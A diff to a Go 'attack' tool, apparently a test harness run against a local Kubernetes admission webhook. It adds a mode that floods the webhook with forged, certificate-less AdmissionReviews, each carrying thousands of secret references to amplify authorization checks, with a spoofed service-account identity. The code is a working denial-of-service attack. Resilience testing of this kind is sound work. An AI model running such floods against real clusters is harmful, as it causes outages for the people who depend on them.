@@ -8,6 +8,7 @@
 //	attack -target 127.0.0.1:9445 -source 127.0.0.2 -junk-tokens 8
 //	attack -target 127.0.0.1:9445 -source 127.0.0.2 -trickle 4 -token-file t -path /api/v1/namespaces/ns/secrets/x
 //	attack -target 127.0.0.1:9443 -source 127.0.0.2 -trickle 64 -method POST -path /validate-...
+//	attack -target 127.0.0.1:9443 -source 127.0.0.2 -forged-reviews 8 -namespace ns -path /validate-...
 package main
 
 import (
@@ -39,6 +40,8 @@ func main() {
 	tokenFile := flag.String("token-file", "", "file of bearer tokens, one per line, for -trickle")
 	path := flag.String("path", "/api/v1/namespaces/default/secrets/x", "the path requests go to")
 	method := flag.String("method", http.MethodPut, "the method of -trickle's requests")
+	forged := flag.Int("forged-reviews", 0, "goroutines posting AdmissionReviews of TerraformClusters of -namespace with many references, without a client certificate")
+	namespace := flag.String("namespace", "default", "the namespace of -forged-reviews' objects")
 	flag.Parse()
 	dialers := []*net.Dialer{{Timeout: 5 * time.Second}}
 	if *source != "" {
@@ -91,6 +94,25 @@ func main() {
 		}()
 	}
 
+	reviews := [][]byte{forgedReview(*namespace, 200), forgedReview(*namespace, 20000)}
+	for i := range *forged {
+		d := dialers[i%len(dialers)]
+		client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, TLSClientConfig: tlsConfig}}
+		go func() {
+			var answered sync.Once
+			for n := 0; ; n++ {
+				resp, err := client.Post("https://"+*target+*path, "application/json", strings.NewReader(string(reviews[n%len(reviews)])))
+				sent.Add(1)
+				answered.Do(func() { open.Add(1) })
+				if err != nil {
+					continue
+				}
+				_, _ = io.Copy(io.Discard, resp.Body)
+				resp.Body.Close()
+			}
+		}()
+	}
+
 	tokens := []string{""}
 	if *tokenFile != "" {
 		b, err := os.ReadFile(*tokenFile)
@@ -113,7 +135,7 @@ func main() {
 	}
 	// "attacking" once every flooder has had an answer and every slow
 	// connection has sent its headers: the tests wait for it.
-	for want := int64(*junk + *trickle*len(tokens)); open.Load() < want; {
+	for want := int64(*junk + *forged + *trickle*len(tokens)); open.Load() < want; {
 		time.Sleep(10 * time.Millisecond)
 	}
 	fmt.Println("attacking")
@@ -170,4 +192,26 @@ func randomToken() string {
 	b := make([]byte, 32)
 	_, _ = rand.Read(b)
 	return "eyJ" + hex.EncodeToString(b)
+}
+
+// forgedReview is an AdmissionReview of a TerraformCluster create whose
+// variables come from refs Secrets: each a SubjectAccessReview the webhook
+// would ask for.
+func forgedReview(namespace string, refs int) []byte {
+	var vars []map[string]any
+	for i := range refs {
+		vars = append(vars, map[string]any{"name": fmt.Sprintf("v%d", i),
+			"valueFrom": map[string]any{"secretKeyRef": map[string]string{"name": fmt.Sprintf("s%d", i), "key": "k"}}})
+	}
+	object := map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1alpha1", "kind": "TerraformCluster",
+		"metadata": map[string]any{"name": "forged", "namespace": namespace},
+		"spec":     map[string]any{"module": map[string]any{"inline": "# nothing"}, "variables": vars}}
+	review := map[string]any{"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": map[string]any{
+		"uid": "forged", "kind": map[string]string{"group": "infrastructure.cluster.x-k8s.io", "version": "v1alpha1", "kind": "TerraformCluster"},
+		"resource": map[string]string{"group": "infrastructure.cluster.x-k8s.io", "version": "v1alpha1", "resource": "terraformclusters"},
+		"name":     "forged", "namespace": namespace, "operation": "CREATE",
+		"userInfo": map[string]any{"username": "system:serviceaccount:" + namespace + ":forger"},
+		"object":   object}}
+	b, _ := json.Marshal(review)
+	return b
 }
